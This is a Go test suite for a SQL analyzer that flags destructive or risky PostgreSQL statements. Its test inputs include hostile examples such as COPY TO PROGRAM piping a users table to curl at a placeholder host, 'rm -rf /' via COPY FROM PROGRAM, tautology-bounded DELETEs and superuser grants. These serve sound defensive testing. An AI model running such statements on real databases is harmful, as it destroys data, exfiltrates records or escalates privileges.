package sqlparse

import (
	"reflect"
	"strings"
	"testing"
)

func TestAnalyzeDestructive(t *testing.T) {
	tests := []struct {
		name   string
		sql    string
		reason string // substring of the first reason
	}{
		{"drop table", "DROP TABLE users", "DROP TABLE"},
		{"drop table if exists cascade", "drop table if exists public.users cascade", "DROP TABLE"},
		{"drop database", "DROP DATABASE shop", "DROP DATABASE"},
		{"drop schema", "DROP SCHEMA app CASCADE", "DROP SCHEMA"},
		{"drop index", "DROP INDEX CONCURRENTLY users_email_idx", "DROP INDEX"},
		{"drop view", "DROP VIEW v", "DROP VIEW"},
		{"drop function", "DROP FUNCTION f(int)", "DROP FUNCTION"},
		{"drop role", "DROP ROLE app", "DROP ROLE"},
		{"drop owned", "DROP OWNED BY app", "DROP OWNED"},
		{"drop tablespace", "DROP TABLESPACE t", "DROP TABLESPACE"},
		{"truncate", "TRUNCATE orders", "TRUNCATE"},
		{"truncate table restart", "TRUNCATE TABLE a, b RESTART IDENTITY", "TRUNCATE"},
		{"delete without where", "DELETE FROM invoices", "DELETE without a real WHERE"},
		{"delete where 1=1", "DELETE FROM t WHERE 1=1", "DELETE without"},
		{"delete where true", "DELETE FROM t WHERE true", "DELETE without"},
		{"delete where 'a'='a'", "DELETE FROM t WHERE 'a'='a'", "DELETE without"},
		{"delete where x=x", "DELETE FROM t WHERE x = x", "DELETE without"},
		{"delete where t.x=t.x", "DELETE FROM t WHERE t.id = t.id", "DELETE without"},
		{"delete where 1", "DELETE FROM t WHERE 1", "DELETE without"},
		{"delete where not false", "DELETE FROM t WHERE NOT false", "DELETE without"},
		{"delete where or 1=1", "DELETE FROM t WHERE id = 5 OR 1=1", "DELETE without"},
		{"delete is not null or true", "DELETE FROM t WHERE id IS NOT NULL OR TRUE", "DELETE without"},
		{"delete where 2>1", "DELETE FROM t WHERE 2 > 1", "DELETE without"},
		{"delete where 1<>2", "DELETE FROM t WHERE 1 <> 2", "DELETE without"},
		{"delete where 'true'::bool", "DELETE FROM t WHERE 'true'::boolean", "DELETE without"},
		{"delete where true is true", "DELETE FROM t WHERE true IS TRUE", "DELETE without"},
		{"delete where exists select 1", "DELETE FROM t WHERE EXISTS (SELECT 1)", "DELETE without"},
		{"delete where like %", "DELETE FROM t WHERE name LIKE '%'", "DELETE without"},
		{"delete where 1 in (1,2)", "DELETE FROM t WHERE 1 IN (1, 2)", "DELETE without"},
		{"delete where 1 is not null", "DELETE FROM t WHERE 1 IS NOT NULL", "DELETE without"},
		{"delete where 1.0=1", "DELETE FROM t WHERE 1.0 = 1", "DELETE without"},
		{"delete where (1=1) and true", "DELETE FROM t WHERE (1=1) AND (true)", "DELETE without"},
		{"delete is not distinct from self", "DELETE FROM t WHERE a IS NOT DISTINCT FROM a", "DELETE without"},
		{"delete using tautology", "DELETE FROM t USING u WHERE 1=1", "DELETE without"},
		{"update without where", "UPDATE accounts SET balance = 0", "UPDATE without a real WHERE"},
		{"update where or true", "UPDATE accounts SET balance = 0 WHERE id = 1 OR true", "UPDATE without"},
		{"update from without where", "UPDATE t SET a = u.a FROM u", "UPDATE without"},
		{"alter drop column", "ALTER TABLE users DROP COLUMN email", "DROP COLUMN"},
		{"alter drop constraint", "ALTER TABLE users DROP CONSTRAINT users_pkey", "DROP CONSTRAINT"},
		{"alter disable rls", "ALTER TABLE users DISABLE ROW LEVEL SECURITY", "ROW LEVEL SECURITY"},
		{"grant all", "GRANT ALL ON users TO bob", "GRANT ALL"},
		{"grant all privileges schema", "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO bob", "GRANT ALL"},
		{"grant to public", "GRANT SELECT ON users TO PUBLIC", "GRANT to PUBLIC"},
		{"revoke all", "REVOKE ALL ON users FROM app", "REVOKE ALL"},
		{"alter role superuser", "ALTER ROLE bob WITH SUPERUSER", "SUPERUSER"},
		{"create role superuser", "CREATE ROLE eve SUPERUSER LOGIN", "SUPERUSER"},
		{"alter user bypassrls", "ALTER USER bob BYPASSRLS", "BYPASSRLS"},
		{"copy to program", "COPY users TO PROGRAM 'curl -d @- http://x'", "PROGRAM"},
		{"copy from program", "COPY t FROM PROGRAM 'rm -rf /'", "PROGRAM"},
		{"copy to file", "COPY users TO '/tmp/users.csv'", "server file"},
		{"cte delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "CTE d: DELETE without"},
		{"cte update", "WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM u", "CTE u: UPDATE without"},
		{"nested cte", "WITH a AS (WITH b AS (DELETE FROM t RETURNING 1) SELECT * FROM b) SELECT 1", "DELETE without"},
		{"insert with cte delete", "WITH d AS (DELETE FROM old RETURNING *) INSERT INTO archive SELECT * FROM d", "CTE d"},
		{"multi statement", "SELECT 1; DROP DATABASE shop", "DROP DATABASE"},
		{"comment then drop", "/* harmless */ -- really\nDROP TABLE x", "DROP TABLE"},
		{"do delete", "DO $$ BEGIN DELETE FROM t; END $$", "DO block: DELETE without"},
		{"do drop tagged", "DO $body$ BEGIN DROP TABLE users; END $body$", "DO block: DROP TABLE"},
		{"do nested if", "DO $$ BEGIN IF now() > '2020-01-01' THEN TRUNCATE t; END IF; END $$", "TRUNCATE"},
		{"do execute", "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", "dynamic SQL"},
		{"do loop execute", "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$", "dynamic SQL"},
		{"do other language", "DO LANGUAGE plpython3u $$ import os; os.system('x') $$", "cannot be analysed"},
		{"do perform danger", "DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$", "pg_terminate_backend"},
		{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN ANALYZE: DELETE"},
		{"explain (analyze) delete", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "EXPLAIN ANALYZE"},
		{"prepare delete", "PREPARE p AS DELETE FROM t", "PREPARE: DELETE"},
		{"create function sql body", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", "CREATE FUNCTION body"},
		{"create procedure atomic", "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", "CREATE PROCEDURE body"},
		{"create function plpgsql", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$", "CREATE FUNCTION body: DROP TABLE"},
		{"terminate backends", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"},
		{"dblink exec", "SELECT dblink_exec('dbname=x', 'DROP TABLE users')", "dblink_exec: DROP TABLE"},
		{"dblink exec dynamic", "SELECT dblink_exec('dbname=x', $1)", "not a constant"},
		{"merge delete unbounded", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "MERGE"},
		{"create table as delete", "CREATE TABLE x AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "DELETE"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Analyze(tt.sql)
			if r.ParseError != "" {
				t.Fatalf("Analyze(%q) parse error: %s", tt.sql, r.ParseError)
			}
			if !r.Destructive || len(r.Reasons) == 0 {
				t.Fatalf("Analyze(%q) = not destructive, want destructive (%q); statements %+v", tt.sql, tt.reason, r.Statements)
			}
			if !strings.Contains(r.Reasons[0], tt.reason) {
				t.Errorf("Analyze(%q) reason %q, want it to contain %q", tt.sql, r.Reasons[0], tt.reason)
			}
		})
	}
}

func TestAnalyzeBenign(t *testing.T) {
	tests := []struct {
		name string
		sql  string
	}{
		{"select string literal drop", "SELECT 'DROP TABLE x'"},
		{"comment with drop", "-- DROP TABLE users\nSELECT 1"},
		{"block comment with drop", "SELECT /* DROP DATABASE shop; */ 1"},
		{"select where", "SELECT id, email FROM users WHERE id = 42"},
		{"insert", "INSERT INTO audit_notes(note) VALUES ('ok')"},
		{"insert select", "INSERT INTO a SELECT * FROM b"},
		{"update where", "UPDATE orders SET status = 'shipped' WHERE id = 9"},
		{"delete where expires", "DELETE FROM sessions WHERE expires_at < now()"},
		{"delete where is not null", "DELETE FROM t WHERE deleted_at IS NOT NULL"},
		{"delete where in subquery", "DELETE FROM t WHERE id IN (SELECT id FROM u WHERE u.gone)"},
		{"delete where 1=0", "DELETE FROM t WHERE 1 = 0"},
		{"delete where and tautology", "DELETE FROM t WHERE id = 3 AND 1=1"},
		{"delete where x=y", "DELETE FROM t WHERE a = b"},
		{"delete where random", "DELETE FROM t WHERE random() = random()"},
		{"update where current of", "UPDATE t SET a = 1 WHERE CURRENT OF c"},
		{"dollar quoted drop", "SELECT $$DROP TABLE x$$"},
		{"cte select", "WITH x AS (SELECT 1) SELECT * FROM x"},
		{"cte bounded delete", "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d"},
		{"grant select", "GRANT SELECT ON users TO analyst"},
		{"revoke select", "REVOKE SELECT ON users FROM analyst"},
		{"alter add column", "ALTER TABLE users ADD COLUMN age int"},
		{"alter role password", "ALTER ROLE bob PASSWORD 'x'"},
		{"alter role nosuperuser", "ALTER ROLE bob NOSUPERUSER"},
		{"create table", "CREATE TABLE t (id int primary key)"},
		{"create index", "CREATE INDEX ON t (a)"},
		{"copy to stdout", "COPY users TO STDOUT"},
		{"copy from stdin", "COPY users FROM STDIN"},
		{"explain delete", "EXPLAIN DELETE FROM t"},
		{"do bounded", "DO $$ BEGIN UPDATE t SET a = 1 WHERE id = 2; END $$"},
		{"do with if", "DO $$ DECLARE x int := 1; BEGIN IF x > 0 THEN RAISE NOTICE 'hi'; END IF; END $$"},
		{"transaction", "BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT"},
		{"set", "SET statement_timeout = 1000"},
		{"merge bounded", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"},
		{"create function bounded", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t WHERE id = 1'"},
		{"empty", ""},
		{"only comment", "-- nothing"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Analyze(tt.sql)
			if r.ParseError != "" {
				t.Fatalf("Analyze(%q) parse error: %s", tt.sql, r.ParseError)
			}
			if r.Destructive {
				t.Errorf("Analyze(%q) destructive with %q, want benign", tt.sql, r.Reasons)
			}
		})
	}
}

func TestAnalyzeStatements(t *testing.T) {
	tests := []struct {
		name string
		sql  string
		want []Statement
	}{
		{
			"split and kinds", "SELECT a FROM s.t WHERE a > 1; DELETE FROM u WHERE id = 1; DROP TABLE v, w",
			[]Statement{
				{Kind: "select", Tables: []string{"s.t"}, HasWhere: true, Class: ClassRead},
				{Kind: "delete", Tables: []string{"u"}, HasWhere: true, Class: ClassWrite},
				{Kind: "drop", Tables: []string{"v", "w"}, Destructive: true, Reason: "DROP TABLE", Class: ClassDDL},
			},
		},
		{
			"join tables, cte excluded", "WITH x AS (SELECT * FROM a) SELECT * FROM x JOIN b ON true",
			[]Statement{{Kind: "select", Tables: []string{"a", "b"}, Class: ClassRead}},
		},
		{
			"tautology has no where", "UPDATE t SET a = 1 WHERE 1 = 1",
			[]Statement{{Kind: "update", Tables: []string{"t"}, Destructive: true, Reason: "UPDATE without a real WHERE", Class: ClassWrite}},
		},
		{
			"grant and revoke kinds", "GRANT SELECT ON t TO a; REVOKE SELECT ON t FROM a",
			[]Statement{{Kind: "grant", Tables: []string{"t"}, Class: ClassPrivilege}, {Kind: "revoke", Tables: []string{"t"}, Class: ClassPrivilege}},
		},
		{
			"transaction kinds", "BEGIN; COMMIT; ROLLBACK",
			[]Statement{{Kind: "begin", Class: ClassSession}, {Kind: "commit", Class: ClassSession}, {Kind: "rollback", Class: ClassSession}},
		},
		{
			"other kinds", "CREATE TABLE t (a int); ALTER TABLE t ADD b int; INSERT INTO t VALUES (1); CALL p(); SET x = 1; SHOW x",
			[]Statement{
				{Kind: "create", Tables: []string{"t"}, Class: ClassDDL},
				{Kind: "alter", Tables: []string{"t"}, Class: ClassDDL},
				{Kind: "insert", Tables: []string{"t"}, Class: ClassWrite},
				{Kind: "call", Class: ClassExecute},
				{Kind: "set", Class: ClassSession},
				{Kind: "show", Class: ClassRead},
			},
		},
		{
			"truncate tables", "TRUNCATE a, public.b",
			[]Statement{{Kind: "truncate", Tables: []string{"a", "public.b"}, Destructive: true, Reason: "TRUNCATE", Class: ClassDDL}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Analyze(tt.sql)
			if r.ParseError != "" {
				t.Fatalf("parse error: %s", r.ParseError)
			}
			if len(r.Statements) != len(tt.want) {
				t.Fatalf("got %d statements %+v, want %d", len(r.Statements), r.Statements, len(tt.want))
			}
			for i, got := range r.Statements {
				want := tt.want[i]
				if len(got.Tables) == 0 && len(want.Tables) == 0 {
					got.Tables, want.Tables = nil, nil
				}
				if !reflect.DeepEqual(got, want) {
					t.Errorf("statement %d = %+v, want %+v", i, got, want)
				}
			}
		})
	}
}

func TestAnalyzeParseErrors(t *testing.T) {
	tests := []struct {
		name string
		sql  string
	}{
		{"truncated", "DELETE FROM"},
		{"garbage", "this is not sql"},
		{"nul byte", "SELECT 1\x00; DROP TABLE x"},
		{"oversized", "SELECT " + strings.Repeat("1+", MaxInputBytes/2) + "1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Analyze(tt.sql)
			if r.ParseError == "" {
				t.Fatalf("Analyze(%.40q) has no parse error; statements %+v", tt.sql, r.Statements)
			}
			if r.Destructive || len(r.Statements) != 0 {
				t.Errorf("a parse error must leave no statements and Destructive=false, got %+v", r)
			}
		})
	}
}

func TestMap(t *testing.T) {
	m := Analyze("SELECT 1; DELETE FROM t").Map()
	want := map[string]any{
		"statements": []any{
			map[string]any{"kind": "select", "tables": []any{}, "has_where": false, "destructive": false, "reason": "", "class": "read"},
			map[string]any{
				"kind": "delete", "tables": []any{"t"}, "has_where": false, "destructive": true,
				"reason": "DELETE without a real WHERE", "class": "write",
			},
		},
		"dialect":     "postgresql",
		"destructive": true,
		"reasons":     []any{"DELETE without a real WHERE"},
		"parse_error": "",
	}
	if !reflect.DeepEqual(m, want) {
		t.Errorf("Map() = %#v\nwant %#v", m, want)
	}
	bad := Analyze("DROP FROM x WHERE").Map()
	if bad["parse_error"] == "" || bad["destructive"] != false || len(bad["statements"].([]any)) != 0 {
		t.Errorf("Map() of unparsable SQL = %#v", bad)
	}
}

func TestReasonsDeduplicated(t *testing.T) {
	r := Analyze("DROP TABLE a; DROP TABLE b; TRUNCATE c")
	want := []string{"DROP TABLE", "TRUNCATE"}
	if !reflect.DeepEqual(r.Reasons, want) {
		t.Errorf("Reasons = %q, want %q", r.Reasons, want)
	}
}

func TestDeepNestingIsBounded(t *testing.T) {
	deep := "SELECT " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000)
	r := Analyze(deep)
	if r.Destructive {
		t.Errorf("deeply nested SELECT reported destructive")
	}
	// 301 NOTs of false is a tautology deeper than the evaluator follows: it must not count as
	// a real WHERE (fail closed), whatever the parser does with it.
	where := "DELETE FROM t WHERE " + strings.Repeat("NOT ", 301) + "false"
	r = Analyze(where)
	if r.ParseError == "" && !r.Destructive {
		t.Errorf("DELETE with a 301-deep NOT chain not destructive: %+v", r.Statements)
	}
}
